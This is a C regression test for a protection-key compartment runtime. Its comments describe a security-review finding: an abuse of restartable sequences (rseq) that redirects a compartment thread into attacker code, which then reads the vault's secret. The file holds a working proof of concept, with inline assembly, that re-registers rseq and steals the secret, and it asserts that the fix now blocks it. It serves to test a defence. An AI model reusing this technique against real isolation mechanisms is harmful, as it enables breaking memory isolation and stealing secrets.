// Review 21, attacker model B (control of the default domain's program
// counter, any system call the filter allows): restartable sequences
// (rseq) let the default domain make the kernel move a compartment
// thread's instruction pointer to code of its choice, which then runs with
// the compartment's PKRU and reads the compartment's memory.
//
// The kernel, on a thread's return to user mode after it was preempted,
// migrated or signalled, reads the thread's registered struct rseq (glibc
// registers one per thread, in its TCB: key-0 memory) and the rseq_cs
// descriptor it points to; if the instruction pointer lies in the
// descriptor's [start_ip, start_ip + post_commit_offset), it sets it to
// abort_ip, provided the 4 bytes before abort_ip equal the signature the
// thread registered. PKRU is left as it is. The filter lets rseq through
// (runtime/bpf.c), so the default domain unregisters glibc's registration
// (same area, length and glibc's RSEQ_SIG) and registers the same area
// again with the signature of its choice: the 4 bytes (here a nop) before
// its own code `steal`. It points rseq_cs at a descriptor covering the
// vault's code (the body of vault_spin) with abort_ip = steal, and calls
// the vault through its gate. The first time the thread is preempted in
// the vault (three spinning threads make that soon), the kernel sends it
// to steal with the vault's PKRU: steal copies the vault's secret into
// key-0 memory and ends the thread. The default domain reads the copy.
//
// Seen in the guest: ATTACK SUCCEEDED (the secret read back). With the
// descriptor covering libc's syscall() instead, steal was reached from the
// default domain and faulted on the vault's page ("protection-key fault
// ... from the default domain"): so it is the redirect inside the vault
// that carries the vault's PKRU.
//
// Model A (key-0 stores only) already holds half of it: every thread's
// rseq_cs word is key-0 memory, so a store sends a compartment thread to
// any address preceded by glibc's RSEQ_SIG (0x53053053); libc and ld.so
// hold such bytes (their rseq registration, `mov $0x53053053, %r10d`).
// Not tried here.
//
// Fixed (runtime/rseq.c): a protected program does without rseq. Start-up
// unregisters glibc's area for the main thread, the runtime's thread start
// for new threads, and the filter answers rseq with ENOSYS: the default
// domain can neither re-register (model B, below) nor find a registered
// area whose rseq_cs a store could set (model A: each thread's cpu_id is
// glibc's "registration failed"). Before the fix: ATTACK SUCCEEDED.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: main thread's rseq: off
// CHECK-NEXT: a new thread's rseq: off
// CHECK-NEXT: unregister glibc's rseq: Function not implemented
// CHECK-NEXT: register it again with the attacker's signature: Function not implemented
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attacks-rev21-rseq-abort: done
#define _GNU_SOURCE
#include <bulkhead.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/rseq.h>
#include <sys/syscall.h>
#include <unistd.h>

BULKHEAD_DATA(vault) static char vault_secret[64];
char *secret_at; /* its address (not a secret), for steal */
volatile char leak[64];
volatile int leaked;
static volatile int stop, attacker_done;

static struct rseq *rseq_area(void) {
  return (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
}

static void *report_rseq(void *who) {
  printf("%s's rseq: %s\n", (const char *)who,
         (int32_t)rseq_area()->cpu_id < 0 ? "off" : "registered");
  return NULL;
}

BULKHEAD_ENTRY(vault) void vault_init(void) {
  snprintf(vault_secret, sizeof vault_secret, "vault-secret-%d", 4242);
}

/* The vault's own work: a loop over its secret. */
BULKHEAD_ENTRY(vault) unsigned vault_spin(unsigned n) {
  unsigned h = 0;
  for (unsigned i = 0; i < n; i++)
    h = h * 31 + ((volatile char *)vault_secret)[i & 15];
  return h;
}

/* Default-domain code, reached by the kernel's rseq abort: copies the
 * secret into key-0 memory and ends its thread. The 4 bytes before it (a
 * nop) are the signature registered. */
__asm__(".text\n"
        ".p2align 4\n"
        ".byte 0x0f, 0x1f, 0x40, 0x00\n"
        ".globl rev21_steal\n"
        "rev21_steal:\n"
        "  movq secret_at(%rip), %rsi\n"
        "  leaq leak(%rip), %rdi\n"
        "  movl $63, %ecx\n"
        "1: movb (%rsi), %al\n"
        "  movb %al, (%rdi)\n"
        "  incq %rsi\n"
        "  incq %rdi\n"
        "  decl %ecx\n"
        "  jnz 1b\n"
        "  movl $1, leaked(%rip)\n"
        "2: movl $60, %eax\n" /* exit: this thread */
        "  xorl %edi, %edi\n"
        "  syscall\n"
        "  jmp 2b\n");
extern char rev21_steal[];

static struct rseq_cs cs __attribute__((aligned(32)));

static void *spinner(void *unused) {
  (void)unused;
  while (!stop && !leaked) {
  }
  return NULL;
}

static void *attacker(void *unused) {
  (void)unused;
  struct rseq *area = rseq_area();
  long r = syscall(SYS_rseq, area, 32, RSEQ_FLAG_UNREGISTER, RSEQ_SIG);
  printf("unregister glibc's rseq: %s\n", r ? strerror(errno) : "ok");
  uint32_t sig;
  memcpy(&sig, rev21_steal - 4, 4);
  r = syscall(SYS_rseq, area, 32, 0, sig);
  printf("register it again with the attacker's signature: %s\n",
         r ? strerror(errno) : "ok");
  if (r) {
    attacker_done = 1;
    return NULL;
  }
  /* The vault's code: the body behind vault_spin's gate. */
  void *body;
  __asm__("leaq __bulkhead_body.vault_spin(%%rip), %0" : "=r"(body));
  cs.version = 0, cs.flags = 0;
  cs.start_ip = (uintptr_t)body, cs.post_commit_offset = 192;
  if ((uintptr_t)rev21_steal - cs.start_ip < cs.post_commit_offset)
    cs.post_commit_offset = (uintptr_t)rev21_steal - cs.start_ip;
  cs.abort_ip = (uintptr_t)rev21_steal;
  for (int i = 0; i < 2000 && !leaked; i++) {
    area->rseq_cs = (uintptr_t)&cs; /* the kernel clears it after a look */
    vault_spin(200000);
  }
  attacker_done = 1;
  return NULL;
}

int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  vault_init();
  secret_at = vault_secret;
  pthread_t t, sp[3];
  report_rseq("main thread");
  pthread_create(&t, NULL, report_rseq, "a new thread");
  pthread_join(t, NULL);
  for (int i = 0; i < 3; i++)
    pthread_create(&sp[i], NULL, spinner, NULL);
  pthread_create(&t, NULL, attacker, NULL);
  for (int i = 0; i < 6000 && !leaked && !attacker_done; i++)
    usleep(10000);
  stop = 1;
  if (leaked)
    printf("ATTACK SUCCEEDED: default-domain code the kernel's rseq abort "
           "ran in the vault read its secret: %s\n",
           (const char *)leak);
  else
    printf("held: no abort reached the attacker's code in the vault\n");
  printf("attacks-rev21-rseq-abort: done\n");
  return 0;
}
